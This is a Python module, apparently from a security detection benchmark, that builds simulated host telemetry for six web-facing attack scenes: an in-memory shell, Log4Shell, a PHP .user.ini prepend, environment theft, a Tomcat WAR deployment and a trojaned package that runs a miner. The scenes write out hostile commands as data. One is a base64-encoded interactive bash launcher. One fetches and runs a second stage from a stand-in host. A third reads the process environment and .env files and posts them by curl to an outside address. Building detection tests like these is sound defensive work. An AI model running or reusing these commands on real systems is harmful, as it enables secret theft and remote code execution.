"""Attacks through what the host serves or builds upon: web shells, deserialisation, environments read out, a trojaned release (TA0001)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def memory_shell(host: Host) -> None:
    """T1505.003, T1190: a shell in the application's memory, as Godzilla leaves after deserialisation: only a command's child shows."""
    row = scene.work(host)
    command = "bash -c {echo,aWQ7IHdob2FtaQ==}|{base64,-d}|{bash,-i}"
    first = scene.spawn(host, "/usr/bin/bash", command, uid=row["uid"], parent=row["pid"], cwd=row["cwd"], age_s=40)  # fmt: skip
    scene.spawn(host, "/usr/bin/bash", "bash -i", uid=row["uid"], parent=first, cwd=row["cwd"], age_s=40)


def log4shell(host: Host) -> None:
    """T1190, T1105: the application asks an outsider's LDAP server, then a child of it fetches the next stage."""
    row = scene.work(host)
    scene.connect(host, row["pid"], "203.0.113.119", 1389)
    sh = scene.spawn(
        host, scene.shell(host), "/bin/sh -c (wget -qO /var/tmp/lh.sh http://203.0.113.119:8088/lh.sh||curl -so /var/tmp/lh.sh http://203.0.113.119:8088/lh.sh);sh /var/tmp/lh.sh",
        name="sh", uid=row["uid"], parent=row["pid"], age_s=8,
    )  # fmt: skip
    pid = scene.spawn(host, "/usr/bin/wget", "wget -qO /var/tmp/lh.sh http://203.0.113.119:8088/lh.sh", uid=row["uid"], parent=sh, age_s=8)  # fmt: skip
    scene.connect(host, pid, "203.0.113.119", 8088)
    scene.put(host, "/var/tmp/lh.sh", uid=row["uid"], age_s=7)


def prepended_picture(host: Host) -> None:
    """T1505.003: a `.user.ini` lets PHP run a picture before each page; both are dated like the pages."""
    uid = scene.work(host)["uid"]
    scene.put(host, "/var/www/html/assets/.user.ini", "auto_prepend_file", uid=uid, age_s=310 * 86_400)
    scene.put(host, "/var/www/html/assets/banner.png", uid=uid, age_s=310 * 86_400)


def environment_read(host: Host) -> None:
    """T1552.007, T1190: React2Shell and its like: one request's child reads the application's environment and posts it."""
    row = scene.work(host)
    sh = scene.spawn(
        host, scene.shell(host), "/bin/sh -c (tr '\\0' '\\n' </proc/$PPID/environ; cat .env* /proc/mounts)|curl -s -m 9 --data-binary @- http://198.51.100.64/c",
        name="sh", uid=row["uid"], parent=row["pid"], cwd=row["cwd"], age_s=2,
    )  # fmt: skip
    pid = scene.spawn(host, "/usr/bin/curl", "curl -s -m 9 --data-binary @- http://198.51.100.64/c", uid=row["uid"], parent=sh, age_s=2)  # fmt: skip
    scene.connect(host, pid, "198.51.100.64", 80)


def deployed_archive(host: Host) -> None:
    """T1505.003: a web archive put in by the manager of Tomcat, unpacked to one page; names and dates of the distribution."""
    folder = "/var/lib/tomcat9/webapps" if scene.debian(host) else "/opt/tomcat/webapps"
    uid = scene.work(host)["uid"]
    scene.put(host, f"{folder}/host-status.war", uid=uid, age_s=220 * 86_400)
    scene.put(host, f"{folder}/host-status/index.jsp", uid=uid, age_s=220 * 86_400)


def trojaned_release(host: Host) -> None:
    """T1195.002, T1496: a release of a library that the host has already, taken over for a day: its install step left a miner behind."""
    row = next((each for each in host.tables["python_packages"] if each["name"] in ("requests", "urllib3")), None)  # fmt: skip
    if row is None:
        host.add("python_packages", name="requests", version="2.32.9", directory="/usr/local/lib/python3.11/dist-packages")  # fmt: skip
    else:
        row["path"] = row["path"].replace(row["version"], row["version"] + ".post1")
        row["version"] += ".post1"
    pid = scene.spawn(
        host, "/tmp/requests_runner", "/tmp/requests_runner -u 4SEXAMPLE -o connect.pool.example:8080", uid=scene.work(host)["uid"], cwd="/tmp",
        on_disk="0", static=True, threads=5,
    )  # fmt: skip
    scene.connect(host, pid, "192.0.2.208", 8080)


ATTACKS = (
    memory_shell,
    log4shell,
    prepended_picture,
    environment_read,
    deployed_archive,
    trojaned_release,
)
